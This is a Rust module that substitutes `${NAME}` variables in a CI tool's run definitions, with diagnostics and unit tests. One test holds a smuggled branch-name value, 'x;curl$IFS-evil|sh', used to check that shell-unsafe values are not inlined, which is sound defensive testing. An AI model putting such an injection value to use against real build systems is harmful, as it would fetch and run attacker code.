//! `${NAME}`: what a run puts in its place before it starts.
//!
//! A name that nobody knows is a complaint, never empty text. `$${NAME}` stands for `${NAME}` itself, and what is no
//! plain name (`$NAME`, `${NAME:-x}`, `$(command)`) is left to the shell.

use std::collections::BTreeMap;

use crate::definition::EnvironmentDef;
use crate::diagnostic::{Diagnostic, Sink};
use crate::nearest::nearest;
use crate::render::short;
use crate::shape::is_variable_name;
use crate::source::{Located, Place};

/// What a run knows when it starts.
#[derive(Clone, PartialEq, Eq, Debug, Default)]
pub struct Variables {
    /// `${GIT_COMMIT}`: the full id of the pushed commit.
    pub git_commit: String,
    /// `${BRANCH}`: the branch without `refs/heads/`; empty for a tag.
    pub branch: String,
    /// The tag without `refs/tags/`; `${VERSION}` is the tag, or the commit without one.
    pub tag: Option<String>,
    /// `${RUN_ID}`.
    pub run_id: String,
    /// `${REGISTRY}`, unless `builds.registry` says it.
    pub registry: Option<String>,
}

impl Variables {
    /// Values that only check whether a definition can be resolved.
    pub(crate) fn sample() -> Self {
        Self {
            git_commit: "0123456789abcdef0123456789abcdef01234567".into(),
            branch: "main".into(),
            tag: None,
            run_id: "sample".into(),
            registry: Some("registry.example.com".into()),
        }
    }

    /// Names and values, with the registry that the definition names.
    pub(crate) fn all(&self, registry: Option<&str>) -> BTreeMap<String, String> {
        let version = self.tag.as_ref().unwrap_or(&self.git_commit);
        let mut out: BTreeMap<String, String> = [
            ("GIT_COMMIT", &self.git_commit),
            ("VERSION", version),
            ("BRANCH", &self.branch),
            ("RUN_ID", &self.run_id),
        ]
        .into_iter()
        .map(|(name, value)| (name.to_owned(), value.clone()))
        .collect();
        if let Some(registry) = registry.or(self.registry.as_deref()) {
            out.insert("REGISTRY".into(), registry.into());
        }
        out
    }
}

/// Names that a text may use.
pub(crate) struct Names<'a> {
    /// The run's own.
    pub(crate) run: &'a BTreeMap<String, String>,
    /// The environment that the text is for.
    pub(crate) environment: Option<&'a EnvironmentDef>,
    /// Outputs of earlier steps, by slug.
    pub(crate) outputs: &'a BTreeMap<String, Vec<String>>,
    /// Names that the container sets itself; they are left to its shell.
    pub(crate) own: Vec<&'a str>,
    /// Whether the names of environments may be unknown because another file has them.
    pub(crate) incomplete: bool,
}

/// Where the text goes.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Use {
    /// A field of its own: any value may stand in it.
    Field,
    /// Text that a shell reads: a value that a shell would take apart is left to the shell as a variable.
    Shell,
}

/// A part of a text.
enum Part<'a> {
    Text(&'a str),
    /// The text between the braces, and where `$` stands, in characters.
    Name(&'a str, usize),
}

impl Names<'_> {
    /// The text with everything in its place; complaints go to `sink`.
    pub(crate) fn put(&self, text: &Located<String>, used: Use, sink: &mut Sink) -> String {
        let mut out = String::with_capacity(text.value.len());
        for part in parts(&text.value) {
            match part {
                Part::Text(plain) => out.push_str(plain),
                Part::Name(name, at) => {
                    let place = at_name(text, name, at);
                    out.push_str(&self.value(name, used, &place, sink));
                }
            }
        }
        out
    }

    fn value(&self, name: &str, used: Use, place: &Place, sink: &mut Sink) -> String {
        let left = format!("${{{name}}}");
        if let Some(output) = name.strip_prefix("steps.") {
            self.check_output(output, place, sink);
            return left;
        }
        if self.own.contains(&name) {
            return left;
        }
        let variables = self
            .environment
            .map(|e| e.variables.as_slice())
            .unwrap_or_default();
        let found = variables
            .iter()
            .find(|(key, _)| key == name)
            .map(|(_, value)| &value.value)
            .or_else(|| self.run.get(name));
        match found {
            Some(value) if used == Use::Shell && !is_plain(value) => left,
            Some(value) => value.clone(),
            None => {
                sink.push(self.unknown(name, place));
                left
            }
        }
    }

    fn unknown(&self, name: &str, place: &Place) -> Diagnostic {
        if name == "REGISTRY" {
            return Diagnostic::error(place, "`${REGISTRY}` has no value")
                .help("set `registry` in the `builds` section, or give the host one: --registry of weir up, Registry of the stack");
        }
        let found = format!("unknown variable `{}`", short(name));
        // A slip in a name of the run's own is one whatever other files declare.
        let slip = nearest(name, self.run.keys().map(String::as_str)).is_some();
        let complaint = if self.incomplete && !slip {
            Diagnostic::reference(place, found)
        } else {
            Diagnostic::error(place, found)
        };
        let variables = self
            .environment
            .map(|e| e.variables.as_slice())
            .unwrap_or_default();
        let names = self.run.keys().map(String::as_str);
        let names = names.chain(variables.iter().map(|(name, _)| name.as_str()));
        let expected = crate::render::list(names.clone());
        let near = complaint.expected(expected).nearest(name, names);
        match near.help {
            Some(_) => near,
            None => near.help(format!(
                "a variable of the shell is written `${name}` or `$${{{name}}}`"
            )),
        }
    }

    /// `SLUG.NAME` must be an output that an earlier step declares.
    fn check_output(&self, output: &str, place: &Place, sink: &mut Sink) {
        let (slug, name) = output.rsplit_once('.').unwrap_or((output, ""));
        let Some(outputs) = self.outputs.get(slug) else {
            let found = format!("`${{steps.{}}}` names no earlier step", short(output));
            let slugs = self.outputs.keys().map(String::as_str);
            let complaint = Diagnostic::error(place, found)
                .expected(format!("one of: {}", crate::render::list(slugs.clone())));
            return sink.push(complaint.nearest(slug, slugs));
        };
        if !outputs.iter().any(|o| o == name) {
            let found = format!("step `{slug}` has no output `{}`", short(name));
            let names = outputs.iter().map(String::as_str);
            let complaint = Diagnostic::error(place, found);
            let complaint = if outputs.is_empty() {
                complaint.help(format!("declare it: `outputs: [{}]`", short(name)))
            } else {
                complaint
                    .expected(crate::render::list(names.clone()))
                    .nearest(name, names)
            };
            sink.push(complaint);
        }
    }
}

fn at_name(text: &Located<String>, name: &str, at: usize) -> Place {
    let length = text.value.chars().count();
    if text.place.width as usize >= length && !text.value.contains('\n') {
        let quoted = usize::from(text.place.width as usize > length);
        text.place.shifted(at + quoted, name.chars().count() + 3)
    } else {
        text.place.clone()
    }
}

/// A value that means itself to every shell, quoted or not.
pub(crate) fn is_plain(value: &str) -> bool {
    !value.is_empty()
        && value.bytes().all(|b| {
            b.is_ascii_alphanumeric()
                || matches!(b, b'.' | b'_' | b'-' | b'/' | b':' | b'@' | b'+' | b'%' | b',')
        })
}

fn parts(text: &str) -> Vec<Part<'_>> {
    let mut out = Vec::new();
    let (mut rest, mut at) = (text, 0);
    while let Some(dollar) = rest.find("${") {
        let escaped = rest[..dollar].ends_with('$');
        let body = &rest[dollar + 2..];
        let name = body
            .find('}')
            .map(|end| &body[..end])
            .filter(|name| is_name(name));
        let before = &rest[..dollar - usize::from(escaped)];
        out.push(Part::Text(before));
        let taken = match name {
            Some(name) if escaped => {
                out.push(Part::Text(&rest[dollar..dollar + name.len() + 3]));
                dollar + name.len() + 3
            }
            Some(name) => {
                out.push(Part::Name(name, at + rest[..dollar].chars().count()));
                dollar + name.len() + 3
            }
            None => {
                out.push(Part::Text(&rest[dollar - usize::from(escaped)..dollar + 2]));
                dollar + 2
            }
        };
        at += rest[..taken].chars().count();
        rest = &rest[taken..];
    }
    out.push(Part::Text(rest));
    out
}

fn is_name(text: &str) -> bool {
    is_variable_name(text) || text.starts_with("steps.")
}

/// The texts between `${steps.` and `}`, for those who resolve outputs later.
pub(crate) fn output_references(text: &str) -> Vec<&str> {
    parts(text)
        .into_iter()
        .filter_map(|part| match part {
            Part::Name(name, _) => name.strip_prefix("steps."),
            Part::Text(_) => None,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn put(text: &str, branch: &str, used: Use) -> (String, usize) {
        let variables = Variables {
            branch: branch.into(),
            ..Variables::sample()
        };
        let run = variables.all(None);
        let outputs = BTreeMap::from([("build".to_owned(), vec!["TAG".to_owned()])]);
        let names = Names {
            run: &run,
            environment: None,
            outputs: &outputs,
            own: vec!["MINE"],
            incomplete: false,
        };
        let mut sink = Sink::default();
        let text = Located::new(text.to_owned(), Place::start_of("a"));
        let out = names.put(&text, used, &mut sink);
        (out, sink.len())
    }

    #[test]
    fn known_names_are_put_in_their_place_and_the_rest_is_left_to_the_shell() {
        let table = [
            ("a:${BRANCH}!", "a:main!"),
            (
                "${MINE} $HOME ${X:-y} $(date) ${#A[@]}",
                "${MINE} $HOME ${X:-y} $(date) ${#A[@]}",
            ),
            ("$${HOME}", "${HOME}"),
            ("${steps.build.TAG}", "${steps.build.TAG}"),
            ("${", "${"),
            ("${BRANCH", "${BRANCH"),
            ("模型 ${BRANCH}", "模型 main"),
        ];
        for (text, expected) in table {
            assert_eq!(put(text, "main", Use::Shell), (expected.to_owned(), 0), "{text}");
        }
    }

    #[test]
    fn an_unknown_name_is_a_complaint_and_never_empty_text() {
        for text in [
            "${GIT_COMIT}",
            "${steps.biuld.TAG}",
            "${steps.build.TAGS}",
            "${steps.}",
        ] {
            assert_eq!(put(text, "main", Use::Field), (text.to_owned(), 1), "{text}");
        }
    }

    #[test]
    fn a_branch_name_that_a_shell_would_run_stays_a_variable() {
        let branch = "x;curl$IFS-evil|sh";
        assert_eq!(
            put("git log ${BRANCH}", branch, Use::Shell).0,
            "git log ${BRANCH}"
        );
        assert_eq!(put("${BRANCH}", branch, Use::Field).0, branch);
    }
}
